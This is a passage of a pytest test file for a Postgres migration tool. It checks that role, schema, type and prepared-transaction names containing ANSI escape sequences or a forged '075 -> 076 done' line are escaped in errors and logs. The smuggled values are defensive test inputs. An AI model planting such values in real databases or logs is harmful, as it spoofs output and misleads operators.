    migrate.downgrade(database, "078")
    name = f'"{server_role}\x1b[2J"'
    run_sql(database, f"CREATE ROLE {name}; GRANT TRIGGER ON device_state TO {name}")

    said = psql(database, migrate.sql("078:head")).stderr

    run_sql(database, f"DROP OWNED BY {name} CASCADE; DROP ROLE {name}")
    assert rf'REVOKE TRIGGER ON device_state FROM "{server_role}\u001b[2J"' in said
    assert "\x1b" not in said


HIDES = "E'x\\x1b[2K\\n075 -> 076 done'"


@pytest.mark.repeats
@pytest.mark.parametrize(
    ("holds", "meanwhile"),
    [
        (f"SELECT pg_advisory_xact_lock({ADVISORY_LOCK})", "another deployer is migrating this database: waiting for"),
        ("LOCK TABLE device_state IN ROW EXCLUSIVE MODE", "device_state is in use"),
        ("CREATE TABLE idx_device_state_shadow_pending ()", "index idx_device_state_shadow_pending: "),
    ],
)
def test_the_name_of_a_prepared_transaction_that_holds_a_migration_up_moves_no_cursor(
    holds: str, meanwhile: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    monkeypatch.setattr(deployers, "_MOST_SECONDS", 2)
    monkeypatch.setattr(operations, "_FIRST_PAUSE", 0.01)
    monkeypatch.setattr(indexes, "_PROGRESS_EVERY", 0.05)
    with throwaway.postgres(settings={"max_prepared_transactions": "1"}) as server, ThreadPoolExecutor(1) as pool:
        migrate.upgrade(server.url, "075")
        run_sql(server.url, f"{holds}; PREPARE TRANSACTION {HIDES}")
        upgrading = pool.submit(migrate.upgrade, server.url, lock_timeout="10ms")
        while not re.search(rf"{meanwhile}.*prepared transaction", caplog.text):
            assert not upgrading.done()
        with connected(server.url, isolation_level="AUTOCOMMIT") as connection:
            connection.exec_driver_sql(f"ROLLBACK PREPARED {HIDES}")
        said = str(upgrading.exception(timeout=30)) + caplog.text
    assert r"x\x1b[2K\n075 -> 076 done" in said
    assert "\x1b" not in said
    assert "\n075 -> 076 done" not in said


@pytest.mark.repeats
def test_a_strangers_name_among_the_reasons_of_tenancy_moves_no_cursor(
    database: str, attacker: str, caplog: pytest.LogCaptureFixture
) -> None:
    role = make_url(attacker).username
    migrate.upgrade(database)
    run_sql(database, f'CREATE SCHEMA "x\x1b[2K"; GRANT CREATE, USAGE ON SCHEMA "x\x1b[2K" TO {role}')
    run_sql(attacker, 'CREATE TYPE "x\x1b[2K"."x\x1b[2K" AS ENUM ()')
    run_sql(database, 'ALTER TABLE device_state ADD more "x\x1b[2K"."x\x1b[2K"')
    path = make_url(database).update_query_dict({"options": '-c search_path=public,"x\x1b[2K"'})
    with connected(path.render_as_string(hide_password=False)) as connection:
        (reason,) = tenancy.check(connection, str(role))[1:]
        run_sql(attacker, 'DROP TYPE "x\x1b[2K"."x\x1b[2K" CASCADE')
        tenancy.enable(connection, str(role))
    assert r"x\x1b[2K" in reason
    assert "\x1b" not in reason
    assert r'schema "x\x1b[2K' in caplog.text
    assert "\x1b" not in caplog.text
